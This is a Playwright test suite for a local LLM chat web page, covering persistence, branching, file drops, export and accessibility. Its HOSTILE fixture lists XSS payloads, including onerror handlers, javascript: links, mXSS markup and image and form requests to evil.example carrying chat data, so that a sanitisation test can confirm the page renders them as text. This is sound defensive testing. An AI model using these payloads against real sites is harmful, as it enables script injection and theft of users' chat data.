"""The page in a real browser, before a real server: nothing is faked but the words of two models."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from browser import browser, served
from pdf_files import pdf
from scripted_model import write_scripted_model

pytest.importorskip("fastapi")
pytest.importorskip("pypdf")
api = pytest.importorskip("playwright.sync_api")
from page_tab import Tab  # noqa: E402

expect = api.expect

ANSWER = (
    "A **ring", " buffer** keeps", " the last items.\n\n", "```python\n", "ring = [0]", " * 8\n", "```\n\n",
    "| push", " | cost |\n", "|---", "|---|\n", "| one", " | O(1) |\n\n", "Ask *on*", " and see.",
)  # fmt: skip
CONTRAST = Path(__file__).with_name("contrast.js")
SAYS = "A ring buffer keeps the last items."
THOUGHTS = ("<think>", "They want", " *brevity*.", "</think>", "\n\nYes", ", in short.")
#: What a page must show and never obey: each would set window.hacked, fetch something or change the page.
HOSTILE = (
    "<script>window", ".hacked = 1</script>",
    "\n\n<img src=x", " onerror=\"window.hacked = 2\">",
    "\n\n[a link]", "(javascript:window.hacked=3)",
    "\n\n<iframe srcdoc='<script>parent.hacked = 4</script>'></iframe>",
    "\n\n<style>body { display: none }</style>",
    "\n\n![picture](https://evil.example/p.png?chat=secret)",
    "\n\n</div></article><form action=https://evil.example><button id=send>",
    "\n\n```html\n<svg onload=window.hacked=5>", "\n```\n\n",
    "<a href=\"https://evil.example\" onclick=\"window.hacked = 6\">here</a>", "\n\n[id]: data:text/html,x",
    "\n\n```\"><img src=y onerror=window.hacked=7>\nx = 1", "\n```\n",
    "<math><mtext><table><mglyph><style><img src=z onerror=window.hacked=8>",
    "\n\n`<b>code</b>`", " [x](data:text/html;base64,PHN) the end.",
)  # fmt: skip


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory, real_model: Callable[[str], Path]) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("page")
    plain = write_scripted_model(folder / "plain.gguf", ANSWER)
    hostile = write_scripted_model(folder / "hostile.gguf", HOSTILE)
    thinker = write_scripted_model(folder / "thinker.gguf", THOUGHTS)
    real_model("smollm2-135m")
    models = (plain, hostile, thinker, "smollm2-135m")
    with served(*models, "--ctx", 2048, "--temp", 0, state=folder / "state") as found:
        yield found


@pytest.fixture(scope="module")
def chromium() -> Iterator[api.Browser]:
    try:
        with browser() as found:
            yield found
    except LookupError as error:
        pytest.skip(str(error))


@pytest.fixture
def context(chromium: api.Browser) -> Iterator[api.BrowserContext]:
    found = chromium.new_context(
        viewport={"width": 1100, "height": 800}, permissions=["clipboard-read", "clipboard-write"]
    )
    found.set_default_timeout(30_000)
    yield found
    found.close()


@pytest.fixture
def tab(context: api.BrowserContext, address: str) -> Iterator[Tab]:
    found = Tab(context.new_page(), address)
    yield found
    assert found.faults == []


def test_a_chat_is_answered_and_still_there_after_a_reload(tab: Tab) -> None:
    tab.ask("What is a ring buffer?")
    tab.ask("And then?")
    for _ in range(2):
        expect(tab.questions).to_have_text([re.compile("What is a ring buffer"), re.compile("And then")])
        expect(tab.answers.last).to_contain_text(SAYS)
        expect(tab.answers.last.locator("strong")).to_have_text("ring buffer")
        expect(tab.answers.last.locator("table td").first).to_have_text("one")
        expect(tab.answers.last.locator(".figures")).to_contain_text("known")  # not read twice
        expect(tab.page.get_by_role("heading", level=1)).to_have_text("What is a ring buffer?")
        tab.reload()
    tab.answers.last.get_by_role("button", name="Copy the code").click()
    assert tab.page.evaluate("navigator.clipboard.readText()") == "ring = [0] * 8"
    expect(tab.answers.last.locator("pre .hljs-number").first).to_have_text("0")
    tab.button("New chat").click()
    expect(tab.questions).to_have_count(0)
    tab.page.get_by_role("navigation", name="Chats").get_by_role(
        "button", name="What is a ring buffer?", exact=True
    ).click()
    expect(tab.answers).to_have_count(2)


def test_an_answer_can_be_stopped(tab: Tab) -> None:
    tab.takes_model("smollm2-135m")
    tab.send("Write a very long story about a lighthouse.")
    expect(tab.answers.locator(".markdown").last).not_to_be_empty(timeout=60_000)
    assert tab.is_busy()
    tab.page.keyboard.press("Escape")
    expect(tab.answers.last).to_contain_text("Stopped.")
    said = tab.answers.last.locator(".markdown").last.inner_text()
    assert not tab.is_busy()
    tab.reload()
    expect(tab.answers.last.locator(".markdown").last).to_have_text(said, use_inner_text=True)
    expect(tab.answers.last).to_contain_text("Stopped.")


def test_an_edited_question_becomes_a_branch(tab: Tab) -> None:
    tab.ask("First wording")
    tab.ask("Second question")
    tab.questions.first.hover()
    tab.questions.first.get_by_role("button", name="Edit the question").click()
    edited = tab.page.get_by_role("textbox", name="Question")
    expect(edited).to_have_value("First wording")
    edited.fill("Other wording")
    edited.press("Enter")
    tab.awaits_answer(1)
    expect(tab.questions).to_have_text([re.compile("Other wording")])
    expect(tab.questions.first.get_by_role("group")).to_have_accessible_name("Version 2 of 2")
    tab.questions.first.get_by_role("button", name="Earlier version").click()
    expect(tab.questions).to_have_text([re.compile("First wording"), re.compile("Second question")])
    tab.reload()
    expect(tab.questions).to_have_count(2)  # the branch that was shown
    tab.page.keyboard.press("Alt+Period")
    expect(tab.questions).to_have_text([re.compile("Other wording")])


def test_an_answer_again_is_a_branch_too(tab: Tab) -> None:
    tab.ask("Say it")
    tab.answers.last.get_by_role("button", name="Answer again").click()
    expect(tab.answers.last.get_by_role("group")).to_have_accessible_name("Version 2 of 2")
    expect(tab.button("Send")).to_be_visible()
    expect(tab.answers.last).to_contain_text(SAYS)
    tab.answers.last.get_by_role("button", name="Earlier version").click()
    expect(tab.answers.last.get_by_role("group")).to_have_accessible_name("Version 1 of 2")
    tab.ask("Go on from the first")
    expect(tab.answers).to_have_count(2)


def test_files_are_dropped(tab: Tab) -> None:
    tab.drop(
        ("notes.md", "# Grüße".encode("utf-16")), ("keeper.pdf", pdf("The keeper is Mara.")), ("<b>.py", b"x = '```'")
    )
    for name in ("notes.md", "keeper.pdf", "<b>.py"):
        expect(tab.page.get_by_role("button", name=f"Leave out {name}")).to_be_visible()
    tab.ask("What do they say?")
    shown = tab.questions.last.locator(".files li")
    expect(shown).to_have_text(
        [re.compile(re.escape(text)) for text in ("# Grüße", "The keeper is Mara.", "x = '```'")]
    )
    with tab.page.expect_request("**/v1/chat/completions") as asked:
        tab.ask("Again?")
    told = asked.value.post_data_json["messages"][0]["content"]
    assert told == (
        "notes.md:\n```\n# Grüße\n```\n\nkeeper.pdf:\n```\nThe keeper is Mara.\n```\n\n"
        "<b>.py:\n````\nx = '```'\n````\n\nWhat do they say?"
    )


def test_what_is_no_text_is_told(context: api.BrowserContext, address: str) -> None:
    tab = Tab(context.new_page(), address)
    tab.drop(("photo.png", b"\x89PNG\r\n\x1a\n\0\0"))
    expect(tab.page.get_by_role("alert")).to_have_text("photo.png is a PNG image, not text")
    expect(tab.page.get_by_role("button", name="Leave out photo.png")).to_have_count(0)
    assert all("400" in fault for fault in tab.faults)


def test_two_tabs_write_to_one_chat(tab: Tab, context: api.BrowserContext, address: str) -> None:
    tab.ask("First")
    other = Tab(context.new_page(), address, at=tab.page.url)
    expect(other.answers).to_have_count(1)
    tab.send("From one tab")  # both go on from the same answer, at once
    other.send("From the other")
    for each in (tab, other):
        each.awaits_answer(2)
        expect(each.questions.last.get_by_role("group")).to_have_accessible_name(re.compile("Version [12] of 2"))
    expect(tab.questions.last).to_contain_text("From one tab")
    expect(other.questions.last).to_contain_text("From the other")
    other.page.reload()
    assert (
        other.page.evaluate("""async () => {
        const { exported } = await import("/page/store.js");
        const messages = (await exported()).chats[0].messages;
        return messages.map(m => m.role + " " + (m.state ?? "")).sort();
    }""")
        == ["assistant done"] * 3 + ["user "] * 3
    )
    tab.page.get_by_role("navigation", name="Chats").get_by_role("listitem").hover()
    tab.page.get_by_role("button", name="Delete First").click()
    tab.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    for each in (tab, other):
        expect(each.questions).to_have_count(0)  # the other tab shows no chat that is gone
    assert other.faults == []


def test_a_hostile_answer_is_text(tab: Tab) -> None:
    tab.takes_model("hostile")
    tab.ask("<img src=x onerror='window.hacked = 9'>")
    for _ in range(2):
        expect(tab.answers.last).to_contain_text("the end.")
        expect(tab.answers.last).to_contain_text("<script>window.hacked = 1</script>")
        expect(tab.answers.last).to_contain_text('<img src=x onerror="window.hacked = 2">')
        expect(tab.answers.last.locator("pre").first).to_contain_text("<svg onload=window.hacked=5>")
        expect(tab.questions.last).to_contain_text("<img src=x onerror='window.hacked = 9'>")
        assert tab.page.evaluate("window.hacked") is None
        assert tab.page.locator("main :is(img, iframe, script, style, object, embed, math, form form)").count() == 0
        assert tab.page.locator("article :is([onerror], [onclick], [onload], [style], [id])").count() == 0
        links = tab.answers.last.locator("a[href]").evaluate_all("all => all.map(a => [a.protocol, a.rel])")
        assert {protocol for protocol, _ in links} <= {"https:"}
        assert {rel for _, rel in links} == {"noopener noreferrer nofollow"}
        tab.reload()
    tab.button("Memory").click()
    expect(tab.page.get_by_role("region", name="What the model still remembers")).to_contain_text(
        "<script>window.hacked = 1</script>"
    )
    assert tab.page.evaluate("window.hacked") is None
    title = tab.page.get_by_role("navigation", name="Chats").get_by_role("listitem")
    expect(title).to_contain_text("<img src=x onerror='window.hacked = 9'>")


def test_thoughts_are_folded(tab: Tab) -> None:
    tab.takes_model("thinker")
    tab.ask("Well?")
    answer = tab.answers.last
    expect(answer.locator(".markdown").last).to_have_text("Yes, in short.")
    thoughts = answer.get_by_text("They want brevity.")
    expect(thoughts).not_to_be_visible()
    answer.locator("summary").click()
    expect(thoughts).to_be_visible()
    expect(answer.locator("em")).to_have_text("brevity")
    with tab.page.expect_request("**/v1/chat/completions") as asked:
        tab.ask("And?")
    assert asked.value.post_data_json["messages"][1]["reasoning_content"].strip() == "They want *brevity*."


def test_the_policy_forbids_what_the_page_does_not_need(context: api.BrowserContext, address: str) -> None:
    headers = context.request.get(address).headers
    assert "unsafe" not in headers["content-security-policy"]
    page = Tab(context.new_page(), address).page
    refused = page.evaluate("""() => new Promise(resolve => setTimeout(() => {  // a debugger's own script may do more
        const allowed = work => { try { work(); return true; } catch { return false; } };
        resolve({
            code: allowed(() => new Function("return 1")()),
            html: allowed(() => document.body.insertAdjacentHTML("beforeend", "<i></i>")),
        });
    }))""")
    assert refused == {"code": False, "html": False}


def test_what_the_model_remembers_is_shown_and_pinned(tab: Tab) -> None:
    lines = "\n".join(f"The-keeper-number-{i}-is-called-Mara." for i in range(36))
    tab.ask(lines)  # 1,300 tokens, more than there are cells
    tab.button("Memory").click()
    region = tab.page.get_by_role("region", name="What the model still remembers")
    summary = region.locator("#memory-summary")
    expect(summary).to_contain_text("a head holds")
    shown = region.locator(".remembered.user .passage")
    expect(shown).to_have_count(36)
    assert lines in region.locator(".remembered.user").text_content()
    share = "all => all.map(t => parseFloat(t.style.getPropertyValue('--tinted')))"
    now = region.locator(".remembered.user .passage .t").evaluate_all(share)
    assert min(now) < 100
    assert all(0 <= one <= 100 for one in now)
    tab.page.get_by_label("Another budget").fill("0")
    expect(tab.page.get_by_label("Another budget")).to_have_attribute("aria-valuetext", re.compile("^2.0% of"))
    expect(summary).to_contain_text("With a budget of 2.0%")
    less = region.locator(".remembered.user .passage .t").evaluate_all(share)
    assert sum(less) / len(less) < sum(now) / len(now)
    assert region.locator(".t.gone").count() > 0
    tab.button("Back to now").click()
    expect(summary).not_to_contain_text("With a budget")
    shown.nth(4).click()
    expect(shown.nth(4)).to_have_attribute("aria-pressed", "true")
    expect(shown.nth(5)).to_have_attribute("aria-pressed", "false")
    assert set(shown.nth(4).locator(".t").evaluate_all(share)) == {100}
    shown.nth(4).press("ArrowDown")
    expect(shown.nth(5)).to_be_focused()
    tab.page.keyboard.press("Enter")
    expect(shown.nth(5)).to_have_attribute("aria-pressed", "true")
    tab.button("Forget pins").click()
    expect(shown.nth(4)).to_have_attribute("aria-pressed", "false")
    tab.send("Live?")
    expect(region.locator(".remembered").nth(2)).to_contain_text("Live?")  # without asking for it


def test_chats_are_exported_and_imported(tab: Tab, chromium: api.Browser, tmp_path: Path) -> None:
    tab.ask("Keep this")
    tab.answers.last.get_by_role("button", name="Answer again").click()
    expect(tab.answers.last.get_by_role("group")).to_have_accessible_name("Version 2 of 2")
    expect(tab.button("Send")).to_be_visible()
    with tab.page.expect_download() as download:
        tab.button("Export").click()
    file = tmp_path / "chats.json"
    download.value.save_as(file)
    elsewhere = Tab(chromium.new_context().new_page(), tab.address)
    for _ in range(2):  # the second time nothing is new
        elsewhere.page.locator("#import-input").set_input_files(file)
        expect(elsewhere.questions).to_have_text([re.compile("Keep this")])
        expect(elsewhere.answers.last.get_by_role("group")).to_have_accessible_name("Version 2 of 2")
        expect(elsewhere.page.get_by_role("navigation").get_by_role("listitem")).to_have_count(1)
    data = json.loads(file.read_text(encoding="utf-8"))
    data["chats"][0]["messages"][0]["content"] = {"html": "<script>"}
    for raw, told in (
        (json.dumps(data), "a message of this file is damaged"),
        ("{", "no JSON"),
        ("{}", "no exported chats"),
    ):
        file.write_text(raw, encoding="utf-8")
        elsewhere.page.locator("#import-input").set_input_files(file)
        dialog = elsewhere.page.get_by_role("dialog")
        expect(dialog).to_contain_text(told)
        dialog.get_by_role("button", name="Close").click()
    elsewhere.page.locator("#import-input").set_input_files(
        {
            "name": "x.json",
            "mimeType": "application/json",
            "buffer": b'{"messages": [{"role": "user", "content": "From elsewhere"}]}',
        }
    )
    expect(elsewhere.questions).to_have_text([re.compile("From elsewhere")])
    elsewhere.page.context.close()


def test_light_and_dark(tab: Tab) -> None:
    ground = "getComputedStyle(document.documentElement).backgroundColor"

    def brightness() -> int:
        return sum(map(int, re.findall(r"\d+", tab.page.evaluate(ground))[:3]))

    tab.page.emulate_media(color_scheme="light")
    assert brightness() > 600
    tab.page.emulate_media(color_scheme="dark")
    assert brightness() < 150
    tab.page.get_by_role("button", name=re.compile("^Colours")).click()
    assert brightness() > 600  # light, whatever the system says
    tab.reload()
    assert brightness() > 600
    for colours in ("light", "dark"):
        tab.page.emulate_media(color_scheme=colours)
        tab.page.get_by_role("button", name=re.compile("^Colours")).click()
    tab.ask("Is it readable?")
    tab.button("Memory").click()
    expect(tab.page.locator(".passage").first).to_be_visible()
    for _ in range(2):
        for colours in ("light", "dark"):
            tab.page.emulate_media(color_scheme=colours)
            assert tab.page.evaluate(CONTRAST.read_text(encoding="utf-8")) == []
        tab.button("Memory").click()


def test_a_phone_has_no_sideways_scrolling(chromium: api.Browser, address: str) -> None:
    context = chromium.new_context(viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True)
    tab = Tab(context.new_page(), address)
    overflow = "document.scrollingElement.scrollWidth - innerWidth"
    tab.box.fill("A_very_long_word_" * 20)
    tab.button("Send").click()
    tab.awaits_answer(1)
    assert tab.page.evaluate(overflow) == 0
    assert tab.page.locator("#transcript").evaluate("e => e.scrollWidth - e.clientWidth") == 0
    expect(tab.button("New chat")).not_to_be_visible()
    tab.button("Chats").click()
    expect(tab.button("New chat")).to_be_visible()
    assert tab.page.evaluate(overflow) == 0
    tab.page.keyboard.press("Escape")
    expect(tab.button("New chat")).not_to_be_visible()
    tab.button("Memory").click()
    expect(tab.page.locator(".passage").first).to_be_visible()
    assert tab.page.evaluate(overflow) == 0
    tab.button("Settings of this chat").click()
    assert tab.page.evaluate(overflow) == 0
    assert tab.faults == []
    context.close()


def test_everything_has_a_name_and_can_be_reached_by_keys(tab: Tab) -> None:
    expect(tab.box).to_be_focused()
    tab.ask("Hello")
    expect(tab.page.locator("#live")).to_contain_text("Ask on and see.")  # what a screen reader is told
    nameless = tab.page.locator("button:visible, input:visible, textarea:visible, select:visible").evaluate_all(
        "all => all.filter(e => !(e.ariaLabel || e.textContent.trim() || e.labels?.length)).map(e => e.outerHTML)"
    )
    assert nameless == []
    tab.page.keyboard.press("Alt+k")
    keys = tab.page.get_by_role("dialog", name="Keys")
    expect(keys).to_contain_text("what the model remembers")
    tab.page.keyboard.press("Escape")
    expect(keys).not_to_be_visible()
    tab.page.keyboard.press("Alt+r")
    expect(tab.answers.last.get_by_role("group")).to_have_accessible_name("Version 2 of 2")
    expect(tab.button("Send")).to_be_visible()
    tab.page.keyboard.press("Alt+n")
    expect(tab.questions).to_have_count(0)
    expect(tab.box).to_be_focused()


def test_settings_are_sent_and_new_chats_begin_with_them(tab: Tab) -> None:
    tab.button("Settings of this chat").click()
    dialog = tab.page.get_by_role("dialog", name="Settings of this chat")
    dialog.get_by_label("System prompt").fill("Be brief.")
    dialog.get_by_label("Temperature").fill("0.2")
    dialog.get_by_label("Most tokens of an answer").fill("5")
    tab.button("Keep").click()
    for _ in range(2):
        with tab.page.expect_request("**/v1/chat/completions") as asked:
            tab.ask("Hello")
        body = asked.value.post_data_json
        assert (body["temperature"], body["max_tokens"]) == (0.2, 5)
        assert body["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "Hello"}]
        expect(tab.answers.last).to_contain_text("The answer ended at the limit of tokens.")
        tab.button("New chat").click()


def test_an_answer_that_fails_can_be_asked_for_again(context: api.BrowserContext, address: str) -> None:
    tab = Tab(context.new_page(), address)
    context.set_offline(True)
    tab.ask("Hello")
    expect(tab.answers.last.get_by_role("alert")).to_have_text("The server does not answer. Is it still running?")
    context.set_offline(False)
    tab.button("Try again").click()
    expect(tab.answers.last).to_contain_text(SAYS)
    expect(tab.answers.last.get_by_role("group")).to_have_count(0)  # the failure left no branch
    tab.ask("x" * 3000)
    expect(tab.answers.last.get_by_role("alert")).to_contain_text("2048")


def test_what_the_browser_does_not_save_is_told(context: api.BrowserContext, address: str) -> None:
    tab = Tab(context.new_page(), address)
    tab.page.evaluate("IDBObjectStore.prototype.put = () => { throw new Error('The disk is full.'); }; 0")
    tab.send("Hello")
    expect(tab.page.get_by_role("alert")).to_have_text("The disk is full.")


def test_a_chat_that_another_program_began(tab: Tab) -> None:
    tab.page.request.post(
        f"{tab.address}/v1/chat/completions",
        data={"model": "plain", "messages": [{"role": "user", "content": "From a program"}]},
    )
    tab.page.get_by_text("Kept by the server").click()
    tab.page.get_by_role("button", name=re.compile("^From a program .*tokens")).click()
    expect(tab.answers.last).to_contain_text(SAYS)
    tab.ask("And now from the page")
    expect(tab.answers.last.locator(".figures")).to_contain_text("known")


def test_the_key_is_asked_for(context: api.BrowserContext, tmp_path: Path) -> None:
    model = write_scripted_model(tmp_path / "plain.gguf", ANSWER)
    with served(model, "--ctx", 512, "--api-key", "sesame", state=tmp_path) as address:
        page = context.new_page()
        page.goto(address)
        dialog = page.get_by_role("dialog", name="API key")
        dialog.get_by_role("textbox").fill("wrong")
        dialog.get_by_role("button", name="Use it").click()
        page.reload()
        expect(dialog).to_contain_text("The server does not take this key.")
        dialog.get_by_role("textbox").fill("sesame")
        dialog.get_by_role("button", name="Use it").click()
        page.get_by_role("textbox", name="Message").fill("Hello")
        page.keyboard.press("Enter")
        expect(page.get_by_role("article", name="Answer")).to_contain_text(SAYS)
